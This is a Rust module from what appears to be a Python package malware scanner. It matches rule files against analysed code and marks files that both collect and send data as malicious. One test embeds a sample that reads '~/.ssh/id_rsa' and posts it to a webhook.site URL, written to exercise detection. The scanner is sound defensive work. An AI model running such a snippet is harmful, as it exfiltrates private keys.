//! Judges what an analysis found by rules, which are data: each is a file in `data/rules/` with a hit and a no-hit.
//!
//! A scan is a reader's help. The sandbox is the border.

mod advisory;
mod declared;
mod hit;

use std::collections::BTreeSet;
use std::io;
use std::path::Path;

use crate::budget::{Budget, Limits};
use crate::model::{Analysis, Finding, Module};
use crate::rule::{Rule, rules};
use crate::verdict::Verdict;
use crate::walk::{SourceFile, failed, in_large_thread, list, read_files, sort};

pub use advisory::Advisories;
pub use declared::Declared;
use hit::MAX_HITS_IN_FILE;
pub use hit::{Hit, MAX_HITS, Scan};

/// What an operator demands of code. A hit is suspicious.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Policy {
    /// Top-level modules that may be imported beside Python's library, the package and its `vendor/`. Empty: all.
    pub allowed_imports: Vec<String>,
    /// Modules that may not be imported, such as `ctypes` or `os.path`.
    pub denied_imports: Vec<String>,
}

/// Judges an unpacked package.
pub fn scan_folder(
    folder: &Path,
    declared: Option<&Declared>,
    policy: &Policy,
    advisories: &Advisories,
    limits: &Limits,
) -> io::Result<Scan> {
    let (files, found) = list(folder, limits)?;
    Ok(judge(files, &found, declared, policy, advisories, limits))
}

/// Judges the files of a package.
pub fn scan_files(
    files: Vec<SourceFile>,
    declared: Option<&Declared>,
    policy: &Policy,
    advisories: &Advisories,
    limits: &Limits,
) -> Scan {
    judge(files, &[], declared, policy, advisories, limits)
}

fn judge(
    mut files: Vec<SourceFile>,
    found: &[Finding],
    _declared: Option<&Declared>,
    _policy: &Policy,
    _advisories: &Advisories,
    limits: &Limits,
) -> Scan {
    sort(&mut files);
    let read = || {
        let budget = Budget::new(limits);
        let mut analysis = read_files(&files, &budget);
        analysis.findings.extend_from_slice(found);
        scan(&analysis)
    };
    let scan = in_large_thread(read).unwrap_or_else(|message| scan(&failed(&message)));
    Scan { files: files.len(), ..scan }
}

/// Judges what an analysis found. Files that could not be read are hits, too.
pub fn scan(analysis: &Analysis) -> Scan {
    let mut hits = Vec::new();
    for finding in &analysis.findings {
        hits.push(Hit {
            rule: "unreadable".to_owned(),
            verdict: Verdict::Notes,
            path: finding.path.clone(),
            place: finding.place,
            what: finding.message.clone(),
            reason: "What cannot be read is not judged.".to_owned(),
            how: "Repair the file, or leave it out of the package.".to_owned(),
        });
    }
    for module in &analysis.modules {
        let mut stages = BTreeSet::new();
        for rule in rules() {
            let found = matches(rule, module);
            if !found.is_empty() {
                stages.insert(rule.stage.as_str());
            }
            hits.extend(found);
        }
        // One stage alone has honest uses. What collects and also sends has hardly any.
        if stages.len() > 1 {
            for hit in hits.iter_mut().filter(|hit| hit.path == module.path && hit.verdict == Verdict::Suspicious) {
                hit.verdict = Verdict::Malicious;
            }
        }
    }
    Scan {
        files: analysis.modules.len() + analysis.objects.len(),
        is_complete: analysis.is_complete(),
        ..Scan::of(hits)
    }
}

fn matches(rule: &Rule, module: &Module) -> Vec<Hit> {
    let hit = |place, what: &str| Hit {
        rule: rule.id.clone(),
        verdict: rule.verdict,
        path: module.path.clone(),
        place: Some(place),
        what: what.to_owned(),
        reason: rule.reason.clone(),
        how: rule.how.clone(),
    };
    if rule.is_about_calls() {
        let calls = module.calls.iter().filter(|call| rule.hits_call(call));
        return calls.take(MAX_HITS_IN_FILE).map(|call| hit(call.place, &call.callee)).collect();
    }
    let uses = module.uses.iter().filter(|used| rule.hits_use(used));
    uses.take(MAX_HITS_IN_FILE).map(|used| hit(used.place, &used.what)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Limits, analyze_source};

    fn scanned(code: &str) -> Scan {
        let analysis = analyze_source("main.py", code.as_bytes(), &Limits::default());
        assert_eq!(analysis.findings, [], "{code}");
        scan(&analysis)
    }

    #[test]
    fn every_rule_hits_its_hit_and_nothing_else() {
        for rule in rules() {
            let names = |code: &str| scanned(code).hits.into_iter().map(|hit| hit.rule).collect::<BTreeSet<_>>();
            assert_eq!(names(&rule.hit).into_iter().collect::<Vec<_>>(), [rule.id.as_str()], "{}", rule.hit);
            assert!(names(&rule.no_hit).is_empty(), "{}: {:?}", rule.id, scanned(&rule.no_hit));
        }
    }

    #[test]
    fn two_stages_in_one_file_are_malicious() {
        let collect = "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n";
        assert_eq!(scanned(collect).verdict, Verdict::Suspicious);
        let sent = format!("{collect}import requests\nrequests.post('https://webhook.site/x', data=key)\n");
        let scan = scanned(&sent);
        assert_eq!(scan.verdict, Verdict::Malicious);
        assert!(scan.hits.iter().any(|hit| hit.place.unwrap().line == 4 && hit.rule == "drop-host"), "{scan:?}");
        assert_eq!(scanned("import json\nprint(json.dumps({}))\n").verdict, Verdict::Clean);
    }

    #[test]
    fn what_cannot_be_read_is_not_clean() {
        let analysis = analyze_source("main.py", b"x = (\n", &Limits::default());
        assert_eq!(scan(&analysis).verdict, Verdict::Notes);
    }
}
